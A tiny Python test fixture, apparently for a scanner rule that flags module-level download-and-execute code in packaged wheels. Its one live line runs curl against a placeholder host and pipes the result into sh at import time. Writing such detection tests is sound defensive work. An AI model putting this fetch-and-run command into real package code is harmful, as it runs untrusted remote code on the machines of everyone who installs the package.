# canary-test: path=mypkg/setup_env.py artifact=wheel
# A download piped into a shell, run at import.
import os

# ruleid: MODULE_LEVEL_DOWNLOAD_AND_EXECUTE
os.system("curl -fsSL https://example.invalid/install.sh | sh")
